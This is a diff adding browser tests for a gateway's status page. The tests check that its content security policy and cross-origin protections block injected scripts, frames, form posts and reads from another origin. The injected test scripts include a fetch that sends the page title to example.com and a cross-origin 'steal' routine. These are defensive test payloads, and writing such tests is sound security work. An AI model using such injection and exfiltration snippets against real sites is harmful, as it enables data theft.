@@ -1,8 +1,10 @@
 """The status page in a real browser: what a person sees of it, and what it runs."""
 
 from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
 from pathlib import Path
 
+import aiohttp
 import grpc
 import pytest
 import pytest_asyncio
@@ -10,7 +12,8 @@ import pytest_asyncio
 from browser import CHROMIUM, Page, chromium, tab
 from conformance.table import World, bearer
 from gates import check_request
-from processes import check, environ, gate
+from processes import check, environ, gate, receiver
+from wicketgate.adapters.status_feed import MAX_WATCHERS
 from wicketgate.local.ports import held_ports
 
 pytestmark = [
@@ -146,6 +149,183 @@ async def test_a_token_is_asked_for_and_stays_in_the_tab(world: World, browser: 
     assert is_empty
     assert kept[:2] == [0, f"http://{running.admin}/"]
     assert TOKEN not in kept[2]
+    assert page.complaints == []
+
+
+async def test_what_is_put_into_the_page_by_force_does_not_run(world: World, browser: str) -> None:
+    """
+    As if text had become markup after all: the security policy is what is left then.
+    """
+    forced = """
+    (() => {
+      window.broken = [];
+      document.addEventListener("securitypolicyviolation", (each) =>
+        window.broken.push(each.effectiveDirective));
+      const refused = [];
+      const attempt = (name, force) => { try { force() } catch { refused.push(name) } };
+      const make = (name, attributes) =>
+        document.body.append(Object.assign(document.createElement(name), attributes));
+      attempt("markup", () => { document.body.innerHTML += "<b></b>" });
+      attempt("code", () => eval("window.ran = 1"));
+      attempt("source", () => make("script", { src: "/status.js" }));
+      attempt("inline", () => make("script", { textContent: "window.ran = 1" }));
+      attempt("worker", () => new Worker("/status.js"));
+      attempt("trusted", () => trustedTypes.createPolicy("mine", {}));
+      make("img", { src: "https://example.com/x.png" });
+      make("iframe", { src: "https://example.com/" });
+      make("base", { href: "https://example.com/" });
+      make("style", { textContent: "body { display: none }" });
+      const form = Object.assign(document.createElement("form"), { action: "/", method: "post" });
+      document.body.append(form);
+      form.submit();
+      fetch("https://example.com/?" + document.title).catch(() => window.broken.push("told"));
+      return refused;
+    })()
+    """
+    wanted = {"img-src", "frame-src", "style-src-elem", "base-uri", "form-action", "connect-src"}
+    async with gate(environ(world)) as running, tab(browser) as page:
+        await page.open(f"http://{running.admin}/")
+        await page.until(IS_LIVE)
+        refused = await page.evaluate(forced)
+        await page.until(f"{sorted(wanted)}.every((each) => window.broken.includes(each))")
+        ran = await page.evaluate("window.ran === undefined && location.pathname === '/'")
+
+    assert refused == ["markup", "code", "source", "inline", "worker", "trusted"]
+    assert ran
+
+
+async def test_a_page_of_another_site_learns_nothing(world: World, browser: str) -> None:
+    """
+    Another port of the same machine is another origin, and the same site to a browser.
+    """
+    steal = """
+    (async () => {
+      const got = [];
+      const from = ADMIN;
+      for (const path of ["/status.json", "/status/events", "/", "/status.js"]) {
+        await fetch(from + path).then(() => got.push("read " + path), () => 0);
+      }
+      const event = (target, name) => new Promise((done) => {
+        target.addEventListener(name, () => done(name));
+        target.addEventListener("error", () => done("error"));
+      });
+      const load = (name, attributes) => {
+        const made = Object.assign(document.createElement(name), attributes);
+        const loaded = event(made, "load");
+        document.body.append(made);
+        return loaded;
+      };
+      const stream = new EventSource(from + "/status/events");
+      got.push(await event(stream, "open"));
+      got.push(await load("script", { src: from + "/status.js" }));
+      got.push(await load("script", { src: from + "/status.json" }));
+      got.push(await load("link", { rel: "stylesheet", href: from + "/status.css" }));
+      got.push(await load("img", { src: from + "/status.svg" }));
+      const frame = document.createElement("iframe");
+      frame.src = from + "/";
+      document.body.append(frame);
+      await event(frame, "load");
+      if (frame.contentWindow.length) got.push("frame");
+      return got.filter((each) => each !== "error").join();
+    })()
+    """
+    async with (
+        gate(environ(world)) as running,
+        gate(environ(world)) as other,
+        tab(browser) as page,
+    ):
+        # Whatever is served there: it has no policy of its own.
+        await page.open(f"http://{other.admin}/metrics")
+        await page.until("document.body !== null && location.pathname === '/metrics'")
+        steal = steal.replace("ADMIN", f"'http://{running.admin}'")
+        got = await page.evaluate(steal)
+        refused = " ".join(page.complaints)
+
+    assert got == ""
+    # It was there, and refused: nothing else kept it from being read.
+    for word in ("blocked by CORS policy", "CorpNotSameOrigin", "frame-ancestors"):
+        assert word in refused
+
+
+async def test_whoever_comes_when_as_many_watch_as_may_sees_it_all_the_same(
+    world: World, browser: str
+) -> None:
+    async with (
+        gate(environ(world)) as running,
+        grpc.aio.insecure_channel(running.checks) as channel,
+        aiohttp.ClientSession(f"http://{running.admin}") as client,
+        AsyncExitStack() as stack,
+        tab(browser) as page,
+    ):
+        for _ in range(MAX_WATCHERS):
+            response = await stack.enter_async_context(client.get("/status/events"))
+            assert response.status == 200
+        await page.open(f"http://{running.admin}/")
+        await page.until(f"{IS_LIVE} && {SHOWN}.includes('every 2 s')")
+        await check(channel, check_request({}))
+        await page.until("document.querySelectorAll('#events tbody tr').length === 1")
+
+        await stack.aclose()
+        await page.until("document.getElementById('connection').textContent === 'live'")
+
+
+async def test_a_tab_that_nobody_looks_at_gives_its_stream_back(
+    world: World, browser: str
+) -> None:
+    """
+    A browser holds six connections to one place, and a process eight streams.
+    """
+    hide = """
+    (() => {
+      const later = window.setTimeout;
+      window.setTimeout = (what, wait) => later(what, wait >= 300_000 ? 0 : wait);
+      Object.defineProperty(document, "hidden", { configurable: true, value: true });
+      document.dispatchEvent(new Event("visibilitychange"));
+    })()
+    """
+    look = """
+    (() => {
+      delete document.hidden;
+      document.dispatchEvent(new Event("visibilitychange"));
+    })()
+    """
+    async with gate(environ(world)) as running, tab(browser) as page:
+        await page.open(f"http://{running.admin}/")
+        await page.until(IS_LIVE)
+        await page.evaluate(hide)
+        await page.until(f"{SHOWN}.includes('paused, because nobody looked')")
+        await page.evaluate(look)
+        await page.until(IS_LIVE)
+
+    assert page.complaints == []
+
+
+async def test_a_reason_leads_to_where_it_is_explained(world: World, browser: str) -> None:
+    variables = environ(world, WICKETGATE_PROBLEM_TYPE_BASE="https://docs.example.com/reasons#")
+    async with (
+        gate(variables) as running,
+        grpc.aio.insecure_channel(running.checks) as channel,
+        tab(browser) as page,
+    ):
+        await check(channel, check_request({}))
+        await page.open(f"http://{running.admin}/")
+        await page.until("document.querySelectorAll('#events tbody tr').length === 1")
+        links = await page.evaluate(
+            "[...document.querySelectorAll('main a')].map((each) => [each.href, each.rel])"
+        )
+
+    link = ["https://docs.example.com/reasons#no_credential", "noreferrer"]
+    assert links == [link, link], "beside the denial, and among the reasons"
+
+
+async def test_what_is_not_ready_comes_with_what_to_do(browser: str) -> None:
+    async with receiver() as (_, admin), tab(browser) as page:
+        await page.open(f"http://{admin}/")
+        await page.until(f"{IS_LIVE} && document.querySelector('#troubles li')")
+        said = await page.evaluate("document.getElementById('troubles').innerText")
+
+    assert said.startswith("store: not ready. ")
+    assert "Postgres" in said
     assert page.complaints == []
 
 
